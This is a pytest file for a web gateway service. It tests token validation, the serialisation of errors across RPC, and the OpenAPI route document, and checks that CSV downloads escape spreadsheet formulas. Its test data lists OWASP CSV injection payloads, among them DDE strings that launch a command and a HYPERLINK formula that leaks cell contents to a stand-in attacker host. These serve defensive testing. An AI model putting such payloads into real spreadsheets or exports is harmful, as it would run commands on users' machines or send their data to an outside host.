"""Gateway pieces that need no broker: tokens, errors across RPC, the OpenAPI document."""
import csv
import io

import pytest
from nameko.exceptions import deserialize, serialize

from common.errors import NotFound, Unauthenticated, ValidationFailed
from gateway import tokens
from gateway.export import FORMULA_STARTS, audit_rows, csv_download
from gateway.openapi import document, openapi_path
from gateway.service import GatewayService


def test_token_round_trip_and_rejections():
    identity = tokens.identity_from_header("Bearer " + tokens.mint("u1", "U1@Example.com", "U One"))
    assert (identity.id, identity.email, identity.name) == ("u1", "u1@example.com", "U One")
    for header, code in [(None, "missing_token"), ("Token abc", "invalid_token"), ("Bearer abc", "invalid_token"),
                         ("Bearer " + tokens.mint("u1", "u1@example.com", ttl_seconds=-5), "token_expired"),
                         ("Bearer " + tokens.mint("u1", "not-an-email"), "invalid_token"),
                         ("Bearer " + tokens.mint("u\x001", "u1@example.com"), "invalid_token")]:
        with pytest.raises(Unauthenticated) as err:
            tokens.identity_from_header(header)
        assert err.value.code == code


@pytest.mark.parametrize("error", [NotFound("gone", code="organization_not_found", field="organization_id"),
                                   ValidationFailed("bad", field="name", details={"max": 200}),
                                   NotFound("no field")])
def test_errors_cross_rpc_as_themselves(error):
    again = deserialize(serialize(error))
    assert type(again) is type(error)
    assert again.to_dict() == error.to_dict()


def test_openapi_documents_exactly_the_routes():
    routes = set()
    for name in dir(GatewayService):
        for entrypoint in getattr(getattr(GatewayService, name), "nameko_entrypoints", ()):
            url = getattr(entrypoint, "url", "/<path:path>")        # (a consumer has none)
            if url != "/<path:path>" and not url.startswith("/console"):   # the JSON 404 catch-all; the web pages
                routes.add((entrypoint.method.lower(), openapi_path(entrypoint.url)))
    documented = {(m, p) for p, ops in document()["paths"].items() for m in ops}
    assert documented == routes


def test_csv_downloads_defuse_spreadsheet_formulas():
    response = csv_download("x.csv", ["name", "email"], [["=HYPERLINK(\"http://evil\")", "a@example.com"],
                                                          ["Dina", "@cmd"], ["Budi", "b@example.com"]])
    lines = response.get_data(as_text=True).splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and lines[2] == "Dina,'@cmd" and lines[3] == "Budi,b@example.com"


# OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), with the ones that
# hide behind a `;` for spreadsheets that split on it, and full-width forms.
FORMULA_PAYLOADS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "\t=1+1", "\r=1+1", " =1+1",
    "x;=cmd|' /C calc'!A0;", "x; +cmd|' /C calc'!A0", "=1+1;=2+2", "a;b;@SUM(1)", "\uff1dcmd|' /C calc'!A0",
    "x;\uff0b1", "'=already quoted", "plain; text", "-",
]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_csv_cell_starts_a_formula_whichever_separator_a_spreadsheet_splits_on(delimiter):
    response = csv_download("x.csv", ["name", "email"], [[payload, "a@example.com"] for payload in FORMULA_PAYLOADS])
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=delimiter)
             for cell in row]
    dangerous = [cell for cell in cells if cell.lstrip(" ")[:1] in tuple(FORMULA_STARTS)]
    assert dangerous == []
    if delimiter == ",":          # what a person typed is all still there, behind the apostrophes
        names = [row[0] for row in csv.reader(io.StringIO(response.get_data(as_text=True)))][1:]
        assert [name.replace("'", "") for name in names] == [p.replace("'", "") for p in FORMULA_PAYLOADS]


def test_the_audit_csv_holds_values_as_a_person_reads_them():
    """Text as text, empty for null, lists of plain values joined; still defused where a cell could start a
    formula (issue 28: the download JSON-encoded every value: \"\"\"Sehat Clinic\"\"\", null)."""
    entry = {"occurred_at": "2026-12-03T10:00:00Z", "event_id": "e1", "type": "member.roles_changed",
             "entity_type": "member", "entity_id": "budi", "action": "update", "actor": {"id": "dina"},
             "changes": [{"field": "name", "old_value": None, "new_value": "Sehat Clinic"},
                         {"field": "roles", "old_value": ["builder"], "new_value": ["admin", "member"]},
                         {"field": "enabled", "old_value": True, "new_value": False},
                         {"field": "limit", "old_value": 5, "new_value": {"a": 1}},
                         {"field": "formula", "old_value": "", "new_value": "=1+2"}]}
    text = csv_download("audit.csv", ["a"] * 11, audit_rows([entry])).get_data(as_text=True)
    values = [(row[9], row[10]) for row in csv.reader(io.StringIO(text))][1:]
    assert values == [("", "Sehat Clinic"), ("builder", "admin, member"), ("true", "false"), ("5", '{"a": 1}'),
                      ("", "'=1+2")]
